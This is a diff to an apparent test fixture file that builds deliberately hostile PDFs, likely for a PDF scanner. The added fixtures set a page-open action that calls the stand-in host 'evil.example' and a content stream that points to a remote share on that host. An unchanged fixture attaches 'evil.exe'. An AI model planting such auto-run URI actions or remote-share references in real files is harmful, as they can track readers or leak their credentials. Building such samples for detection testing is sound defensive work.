@@ -54,6 +54,23 @@ def _opening_with(action: dict) -> bytes:
     return written(writer)
 
 
+def with_action_of_a_page() -> bytes:
+    """One that asks another site when its page is shown."""
+    writer = _writer()
+    action = {NameObject("/S"): NameObject("/URI"), NameObject("/URI"): TextStringObject("https://evil.example/")}
+    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): DictionaryObject(action)})
+    return written(writer)
+
+
+def with_words_elsewhere() -> bytes:
+    """One whose page lies in a file of another machine."""
+    writer = _writer()
+    stream = DecodedStreamObject()
+    stream[NameObject("/F")] = TextStringObject("//evil.example/share/x")
+    writer.pages[0][NameObject("/Contents")] = writer._add_object(stream)
+    return written(writer)
+
+
 def with_attachment() -> bytes:
     writer = _writer()
     writer.add_attachment("evil.exe", b"MZ")
